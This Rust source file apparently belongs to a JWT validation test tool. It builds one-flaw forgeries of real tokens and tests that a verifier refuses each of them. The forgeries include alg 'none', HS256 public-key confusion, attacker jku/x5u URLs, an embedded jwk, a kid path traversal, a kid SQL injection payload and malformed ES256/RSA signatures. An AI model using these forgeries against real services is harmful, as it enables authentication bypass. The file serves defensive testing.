//! Deliberately broken tokens. Each forgery starts from a *real* token and changes exactly one thing, so that a refusal says something about that
//! one thing: a token made up from nothing would be refused long before the flaw is reached.

use serde_json::{Value, json};

use crate::{
    Alg, Signer, SigningKey, Token,
    hash::random_token,
    jwe,
    jwks::{der, der_uint},
    parts::Parts,
};

/// What a forgery may draw on besides the token.
pub struct Context<'a> {
    /// The server's published key set, if it has one: the HS256 confusions need its public key.
    pub jwks: Option<&'a Value>,
    /// A key of ours, unknown to the server.
    pub attacker: &'a SigningKey,
    /// The base URL of a listener of ours, for `jku`, `x5u` and `iss`.
    pub listener: Option<&'a str>,
    /// What the issuer signs with, where it was handed over: the `signed.` forgeries need it.
    pub issuer: Option<&'a Signer>,
}

/// The forgery makes no sense for this token; the text says why.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct NotApplicable(pub String);

pub(crate) fn not<T>(why: impl Into<String>) -> Result<T, NotApplicable> {
    Err(NotApplicable(why.into()))
}

macro_rules! forgeries {
    ($($variant:ident $name:literal $doc:literal;)*) => {
        /// A named way to break a token.
        #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
        pub enum Forge { $(#[doc = $doc] $variant,)* }

        impl Forge {
            /// Every forgery, in the order of the documentation.
            pub const ALL: &[Forge] = &[$(Forge::$variant,)*];

            /// The name used in suite files.
            pub fn name(self) -> &'static str {
                match self { $(Forge::$variant => $name,)* }
            }

            /// What it does, in one sentence.
            pub fn doc(self) -> &'static str {
                match self { $(Forge::$variant => $doc,)* }
            }
        }
    };
}

forgeries! {
    FlipMiddle "flip-middle" "One character in the middle is another one (of a JWT: in the middle of its signature).";
    Truncate "truncate" "The last quarter of the token is missing.";
    Append "append" "A few characters of the same alphabet are added at the end.";
    Oversize "oversize" "The token is filled up to 64 KiB.";
    Empty "empty" "Nothing is left of the token.";
    PayloadEdited "jwt.payload-edited" "`sub` names somebody else; the signature is the old one.";
    ExpExtended "jwt.exp-extended" "`exp` is a year later; the signature is the old one.";
    AudEdited "jwt.aud-edited" "`aud` names another resource; the signature is the old one.";
    ScopeEdited "jwt.scope-edited" "`scope` has one more scope; the signature is the old one.";
    SignatureStripped "jwt.signature-stripped" "Only header and payload are left, without the last dot.";
    SignatureEmpty "jwt.signature-empty" "The signature segment is empty; the header still names the algorithm.";
    AlgNone "jwt.alg-none" "`alg` is `none` and the signature empty.";
    AlgNoneCased "jwt.alg-none-cased" "`alg` is `nOnE` and the signature empty, against filters that look for `none` only.";
    Hs256PublicPem "jwt.hs256-with-public-key-pem" "Signed with HS256, the secret being the server's public key as PEM text.";
    Hs256PublicJwk "jwt.hs256-with-public-key-jwk" "Signed with HS256, the secret being the server's public key as JWK text.";
    ForeignKeySameKid "jwt.foreign-key-same-kid" "Signed by a key of ours under the server's `kid`.";
    ForeignKeyEmbeddedJwk "jwt.foreign-key-embedded-jwk" "Signed by a key of ours that the header brings along as `jwk`.";
    Jku "jwt.jku" "Signed by a key of ours; `jku` says where to fetch it.";
    X5u "jwt.x5u" "Signed by a key of ours; `x5u` says where to fetch its certificate.";
    KidPath "jwt.kid-path" "`kid` is a path to an empty file, and the token is signed with HS256 and an empty secret.";
    KidSql "jwt.kid-sql" "`kid` is an SQL injection that selects a known secret, and the token is signed with it.";
    ForeignIssuer "jwt.foreign-issuer" "A well-made token of another issuer: foreign `iss`, foreign key, foreign `kid`.";
    TypChanged "jwt.typ-changed" "`typ` is that of another kind of JWT; the signature is the old one.";
    CritUnknown "jwt.crit-unknown" "`crit` names an extension nobody knows; the signature is the old one.";
    Es256Zero "jwt.es256-zero" "The ES256 signature is r = s = 0.";
    Es256Order "jwt.es256-order" "The ES256 signature is r = s = n, the order of the group.";
    Es256Short "jwt.es256-short" "The ES256 signature has 63 bytes.";
    Es256Long "jwt.es256-long" "The ES256 signature has 65 bytes.";
    Es256Der "jwt.es256-der" "The ES256 signature is right but DER-encoded, which RFC 7518 §3.4 does not allow.";
    RsaZero "jwt.rsa-zero" "The RSA signature is the number 0.";
    RsaOne "jwt.rsa-one" "The RSA signature is the number 1.";
    AlgFamilySwapped "jwt.alg-family-swapped" "`alg` names another algorithm of the same family; the signature is the old one.";
    SignedIssOther "signed.iss-other" "`iss` is another issuer; signed by the trusted one's key.";
    SignedIssArray "signed.iss-array" "`iss` is an array: another issuer, then the trusted one; validly signed.";
    SignedIssArrayFirst "signed.iss-array-first" "`iss` is an array: the trusted issuer, then another one; validly signed.";
    SignedIssMissing "signed.iss-missing" "There is no `iss`; validly signed.";
    SignedIssExtended "signed.iss-extended" "`iss` begins with the trusted issuer and goes on; validly signed.";
    SignedIssSlash "signed.iss-slash" "`iss` is the trusted issuer with a slash more (or less); validly signed.";
    SignedAudOther "signed.aud-other" "`aud` is another resource; validly signed.";
    SignedAudMissing "signed.aud-missing" "There is no `aud`; validly signed.";
    SignedAudEmpty "signed.aud-empty" "`aud` is an empty array; validly signed.";
    SignedAudExtended "signed.aud-extended" "`aud` begins with the resource and goes on; validly signed.";
    SignedAudClient "signed.aud-client" "`aud` is the client, as in an ID token; validly signed.";
    SignedExpPast "signed.exp-past" "`exp` was an hour ago; validly signed.";
    SignedExpMissing "signed.exp-missing" "There is no `exp`; validly signed.";
    SignedExpText "signed.exp-text" "`exp` was an hour ago, and is a date as text; validly signed.";
    SignedExpNull "signed.exp-null" "`exp` is null; validly signed.";
    SignedExpArray "signed.exp-array" "`exp` is an array of a past and a future time; validly signed.";
    SignedNbfFuture "signed.nbf-future" "`nbf` is in an hour; validly signed.";
    SignedNbfText "signed.nbf-text" "`nbf` is in an hour, and is a date as text; validly signed.";
    SignedTypMissing "signed.typ-missing" "There is no `typ`; validly signed.";
    SignedTypJwt "signed.typ-jwt" "`typ` is JWT, as in an ID token; validly signed.";
    SignedTypLogout "signed.typ-logout" "`typ` is logout+jwt; validly signed.";
    SignedCritUnknown "signed.crit-unknown" "`crit` names an extension nobody knows; validly signed.";
    SignedNested "signed.nested" "The payload is a token as text, in place of claims (RFC 7519 §5.2); both are validly signed.";
    Encrypted "jwt.encrypted" "The claims are encrypted (a JWE: `dir`, A256GCM) with a key of ours, and nobody has signed them.";
    EncryptedNested "jwt.encrypted-nested" "The whole token is encrypted (a JWE: `dir`, A256GCM) with a key of ours.";
    IssEditedToListener "jwt.iss-edited-to-listener" "`iss` is a listener of ours; the signature is the old one.";
}

impl Forge {
    /// The forgery of that name.
    pub fn parse(name: &str) -> Option<Forge> {
        Forge::ALL
            .iter()
            .copied()
            .find(|forge| forge.name() == name)
    }

    /// Breaks `token` in this one way.
    ///
    /// # Errors
    /// [`NotApplicable`] when the token is opaque, of another algorithm, or when the context lacks what the forgery needs.
    pub fn apply(self, token: &str, context: &Context<'_>) -> Result<String, NotApplicable> {
        match self {
            Forge::FlipMiddle => flip_middle(token),
            Forge::Truncate => match token.chars().count() * 3 / 4 {
                0 => not("the token is too short to truncate"),
                kept => Ok(token.chars().take(kept).collect()),
            },
            Forge::Append => Ok(format!("{token}AAAA")),
            Forge::Oversize => Ok(format!(
                "{token}{}",
                "A".repeat((64 * 1024usize).saturating_sub(token.len()))
            )),
            Forge::Empty => Ok(String::new()),
            _ => self.apply_jwt(token, context),
        }
    }

    fn apply_jwt(self, text: &str, context: &Context<'_>) -> Result<String, NotApplicable> {
        let Ok(token) = Token::parse(text) else {
            return not("the token is opaque, not a JWT");
        };
        let parts = Parts {
            alg: token.header_str("alg").and_then(Alg::parse),
            token,
        };
        if let Some(issuer) = context.issuer
            && let Some(signed) = crate::signed::apply(self, text, &parts.token, issuer)
        {
            return signed;
        }
        let input = parts.token.signing_input.as_str();
        let listener = || {
            context
                .listener
                .map(|url| url.trim_end_matches('/'))
                .ok_or(NotApplicable("no listener is running".into()))
        };
        match self {
            Forge::PayloadEdited => Ok(parts.with_claims(|claims| {
                claims.insert("sub".into(), "somebody-else".into());
            })),
            Forge::ExpExtended => {
                let Some(exp) = parts.token.claims.get("exp").and_then(Value::as_f64) else {
                    return not("the token has no numeric exp");
                };
                Ok(parts.with_claims(|claims| {
                    claims.insert("exp".into(), (exp as u64).saturating_add(31_536_000).into());
                }))
            }
            Forge::AudEdited => Ok(parts.with_claims(|claims| {
                claims.insert("aud".into(), "https://other-resource.example/".into());
            })),
            Forge::ScopeEdited => {
                let scope = match parts.token.claims.get("scope") {
                    Some(Value::String(scope)) => Value::String(format!("{scope} admin")),
                    Some(Value::Array(scopes)) => {
                        Value::Array([scopes.as_slice(), &["admin".into()]].concat())
                    }
                    _ => return not("the token has no scope claim"),
                };
                Ok(parts.with_claims(|claims| {
                    claims.insert("scope".into(), scope);
                }))
            }
            Forge::IssEditedToListener => {
                let listener = listener()?;
                Ok(parts.with_claims(|claims| {
                    claims.insert("iss".into(), listener.into());
                }))
            }
            Forge::Encrypted => {
                let claims = Value::Object(parts.token.claims.clone()).to_string();
                Ok(jwe::encrypt(&parts.token.header, claims.as_bytes()))
            }
            Forge::EncryptedNested => {
                let mut header = parts.token.header.clone();
                header.insert("cty".into(), "JWT".into());
                Ok(jwe::encrypt(&header, text.as_bytes()))
            }
            Forge::SignatureStripped => Ok(input.to_owned()),
            Forge::SignatureEmpty => Ok(format!("{input}.")),
            Forge::AlgNone => Ok(parts.unsecured("none")),
            Forge::AlgNoneCased => Ok(parts.unsecured("nOnE")),
            Forge::Hs256PublicPem => {
                let key = parts.public_key(context)?;
                let Some(pem) = key.to_pem() else {
                    return not("the server's public key cannot be written as PEM");
                };
                Ok(parts.hs256(pem.as_bytes(), None))
            }
            Forge::Hs256PublicJwk => Ok(parts.hs256(
                parts.public_key(context)?.to_json().to_string().as_bytes(),
                None,
            )),
            Forge::KidPath => Ok(parts.hs256(b"", Some("../../../../../../../../dev/null"))),
            Forge::KidSql => Ok(parts.hs256(b"known", Some("x' UNION SELECT 'known' -- "))),
            Forge::ForeignKeySameKid => match parts.alg {
                Some(alg) => Ok(parts.resigned(alg, context, |_, _| {}, |_| {})),
                // A symmetric token: any other secret is a foreign key.
                None => Ok(parts.hs256(random_token(32).as_bytes(), None)),
            },
            Forge::ForeignKeyEmbeddedJwk => Ok(parts.resigned(
                parts.asymmetric()?,
                context,
                |header, key| {
                    header.insert("jwk".into(), key.public_jwk());
                },
                |_| {},
            )),
            Forge::Jku => {
                let url = format!("{}/jwks.json", listener()?);
                Ok(parts.resigned(
                    parts.asymmetric()?,
                    context,
                    |header, key| {
                        header.insert("jku".into(), url.as_str().into());
                        header.insert("kid".into(), key.kid().into());
                    },
                    |_| {},
                ))
            }
            Forge::X5u => {
                let url = format!("{}/certificate.pem", listener()?);
                Ok(parts.resigned(
                    parts.asymmetric()?,
                    context,
                    |header, key| {
                        header.insert("x5u".into(), url.as_str().into());
                        header.insert("kid".into(), key.kid().into());
                    },
                    |_| {},
                ))
            }
            Forge::ForeignIssuer => Ok(parts.resigned(
                parts.asymmetric()?,
                context,
                |header, key| {
                    header.insert("kid".into(), key.kid().into());
                },
                |claims| {
                    claims.insert(
                        "iss".into(),
                        context
                            .listener
                            .unwrap_or("https://attacker.example")
                            .into(),
                    );
                },
            )),
            Forge::TypChanged => Ok(parts.with_header(|header| {
                let own = header
                    .get("typ")
                    .and_then(Value::as_str)
                    .unwrap_or_default();
                let other = if own.eq_ignore_ascii_case("logout+jwt") {
                    "JWT"
                } else {
                    "logout+jwt"
                };
                header.insert("typ".into(), other.into());
            })),
            Forge::CritUnknown => Ok(parts.with_header(|header| {
                header.insert("crit".into(), json!(["https://attacker.example/unknown"]));
                header.insert("https://attacker.example/unknown".into(), true.into());
            })),
            Forge::AlgFamilySwapped => {
                let sibling = parts.asymmetric()?.sibling();
                Ok(parts.with_header(|header| {
                    header.insert("alg".into(), sibling.name().into());
                }))
            }
            Forge::Es256Zero => parts.es256(|_| vec![0; 64]),
            Forge::Es256Order => parts.es256(|_| [P256_ORDER, P256_ORDER].concat()),
            Forge::Es256Short => {
                parts.es256(|signature| signature.get(..63).unwrap_or_default().to_vec())
            }
            Forge::Es256Long => parts.es256(|signature| [signature, &[0]].concat()),
            Forge::Es256Der => parts.es256(|signature| {
                let (r, s) = signature.split_at(signature.len().min(32));
                der(0x30, &[der_uint(r), der_uint(s)].concat())
            }),
            Forge::RsaZero => parts.rsa(0),
            Forge::RsaOne => parts.rsa(1),
            Forge::FlipMiddle
            | Forge::Truncate
            | Forge::Append
            | Forge::Oversize
            | Forge::Empty => unreachable!("handled by apply"),
            _ => not("the issuer's key is not known"),
        }
    }
}

/// The order n of P-256 (SEC 2 §2.4.2).
const P256_ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
    0xbc, 0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

/// Changes one character. The last character of a base64url segment can carry unused bits, so the middle one is taken: it always counts.
fn flip_middle(token: &str) -> Result<String, NotApplicable> {
    let (head, tail) = match Token::parse(token) {
        // In the payload a flip would break the JSON, and the refusal would say nothing about the signature.
        Ok(parsed) if !parsed.signature.is_empty() => {
            token.split_at(parsed.signing_input.len() + 1)
        }
        _ => ("", token),
    };
    let middle = tail.chars().count() / 2;
    if tail.chars().count() < 3 {
        return not("the token is too short to change one character in its middle");
    }
    let flipped = tail.chars().enumerate().map(|(at, c)| match c {
        c if at != middle => c,
        'A' => 'B',
        _ => 'A',
    });
    Ok(head.chars().chain(flipped).collect())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Error, Jwks, hash::base64url_decode, verify, verify_hs256};
    use std::collections::HashSet;

    /// The bytes a token stands for: decoded segments of a JWT, else the text. Tokens that differ only in unused base64 bits are equal here.
    fn meaning(token: &str) -> Vec<Option<Vec<u8>>> {
        match Token::parse(token) {
            Ok(_) => token.split('.').map(base64url_decode).collect(),
            Err(_) => vec![Some(token.as_bytes().to_vec())],
        }
    }

    fn real(alg: Alg) -> (String, Value) {
        let (token, signer) = issued(alg);
        (token, signer.public_jwks().unwrap())
    }

    fn issued(alg: Alg) -> (String, Signer) {
        let key = Signer::Key(SigningKey::generate(alg));
        let claims = json!({"iss": "https://as.example", "sub": "alice", "aud": "https://a.example", "client_id": "c", "exp": 1_900_000_000u64, "scope": "read"});
        let header = json!({"typ": "at+jwt"});
        let token = key.sign(header.as_object().unwrap(), claims.as_object().unwrap());
        (token, key)
    }

    #[test]
    fn names_are_unique_and_parse_back() {
        let names: HashSet<_> = Forge::ALL.iter().map(|forge| forge.name()).collect();
        assert_eq!(names.len(), Forge::ALL.len());
        for forge in Forge::ALL {
            assert_eq!(Forge::parse(forge.name()), Some(*forge));
            assert!(forge.doc().ends_with('.'));
        }
        assert_eq!(Forge::parse("jwt.unknown"), None);
    }

    #[test]
    fn every_forgery_differs_from_the_token_in_meaning_and_is_refused() {
        let attacker = SigningKey::generate(Alg::ES256);
        let mut applied = HashSet::new();
        for alg in [Alg::ES256, Alg::RS256, Alg::EdDSA] {
            let (token, signer) = issued(alg);
            let jwks = signer.public_jwks().unwrap();
            let set = Jwks::from_json(&jwks).unwrap();
            verify(&token, &set, &[alg]).unwrap();
            let context = Context {
                jwks: Some(&jwks),
                attacker: &attacker,
                listener: Some("http://127.0.0.1:9/"),
                issuer: Some(&signer),
            };
            for forge in Forge::ALL {
                let Ok(forged) = forge.apply(&token, &context) else {
                    continue;
                };
                applied.insert(forge.name());
                assert_ne!(meaning(&forged), meaning(&token), "{} {alg}", forge.name());
                // What the issuer has signed is refused for what it says, not for its signature.
                let only_says = forge.name().starts_with("signed.")
                    && !matches!(forge, Forge::SignedCritUnknown | Forge::SignedNested);
                assert_eq!(
                    verify(&forged, &set, Alg::ALL).is_ok(),
                    only_says,
                    "{} {alg}",
                    forge.name()
                );
            }
        }
        assert_eq!(applied.len(), Forge::ALL.len());
    }

    #[test]
    fn an_opaque_token_has_the_general_forgeries_only() {
        let attacker = SigningKey::generate(Alg::ES256);
        let context = Context {
            jwks: None,
            attacker: &attacker,
            listener: None,
            issuer: None,
        };
        let opaque = random_token(24);
        for forge in Forge::ALL {
            let outcome = forge.apply(&opaque, &context);
            assert_eq!(
                outcome.is_ok(),
                !forge.name().contains('.'),
                "{}",
                forge.name()
            );
            if let Ok(forged) = outcome {
                assert_ne!(forged, opaque);
            }
        }
        assert_eq!(
            Forge::Oversize.apply(&opaque, &context).unwrap().len(),
            65_536
        );
    }

    #[test]
    fn what_is_missing_is_said() {
        let attacker = SigningKey::generate(Alg::ES256);
        let (token, _) = real(Alg::EdDSA);
        let context = Context {
            jwks: None,
            attacker: &attacker,
            listener: None,
            issuer: None,
        };
        assert_eq!(
            Forge::Es256Zero.apply(&token, &context).unwrap_err().0,
            "the token's alg is not ES256"
        );
        assert_eq!(
            Forge::Jku.apply(&token, &context).unwrap_err().0,
            "no listener is running"
        );
        assert_eq!(
            Forge::Hs256PublicPem.apply(&token, &context).unwrap_err().0,
            "the server publishes no key set"
        );
    }

    #[test]
    fn the_hs256_confusions_are_valid_for_a_server_that_falls_for_them() {
        let attacker = SigningKey::generate(Alg::ES256);
        let (token, jwks) = real(Alg::RS256);
        let context = Context {
            jwks: Some(&jwks),
            attacker: &attacker,
            listener: None,
            issuer: None,
        };
        let key = Jwks::from_json(&jwks).unwrap().keys()[0].clone();
        let pem = Forge::Hs256PublicPem.apply(&token, &context).unwrap();
        assert!(verify_hs256(&pem, key.to_pem().unwrap().as_bytes()).is_ok());
        let jwk = Forge::Hs256PublicJwk.apply(&token, &context).unwrap();
        assert!(verify_hs256(&jwk, key.to_json().to_string().as_bytes()).is_ok());
    }

    #[test]
    fn a_foreign_key_is_of_the_tokens_own_algorithm() {
        let attacker = SigningKey::generate(Alg::ES256);
        let (token, jwks) = real(Alg::RS256);
        let context = Context {
            jwks: Some(&jwks),
            attacker: &attacker,
            listener: None,
            issuer: None,
        };
        let forged = Token::parse(
            &Forge::ForeignKeyEmbeddedJwk
                .apply(&token, &context)
                .unwrap(),
        )
        .unwrap();
        assert_eq!(forged.header["alg"], "RS256");
        let embedded = crate::Jwk::from_json(&forged.header["jwk"]).unwrap();
        assert_eq!(
            embedded.verify(
                Alg::RS256,
                forged.signing_input.as_bytes(),
                &forged.signature
            ),
            Ok(())
        );
        assert_eq!(
            forged.verify(&Jwks::from_json(&jwks).unwrap(), &[Alg::RS256]),
            Err(Error::Signature)
        );
    }

    #[test]
    fn the_der_form_is_the_same_signature() {
        use aws_lc_rs::signature::{ECDSA_P256_SHA256_ASN1, UnparsedPublicKey};
        let attacker = SigningKey::generate(Alg::ES256);
        let (token, jwks) = real(Alg::ES256);
        let context = Context {
            jwks: Some(&jwks),
            attacker: &attacker,
            listener: None,
            issuer: None,
        };
        let forged = Token::parse(&Forge::Es256Der.apply(&token, &context).unwrap()).unwrap();
        let part =
            |member: &str| base64url_decode(jwks["keys"][0][member].as_str().unwrap()).unwrap();
        let point = [vec![4], part("x"), part("y")].concat();
        UnparsedPublicKey::new(&ECDSA_P256_SHA256_ASN1, point)
            .verify(forged.signing_input.as_bytes(), &forged.signature)
            .unwrap();
    }
}
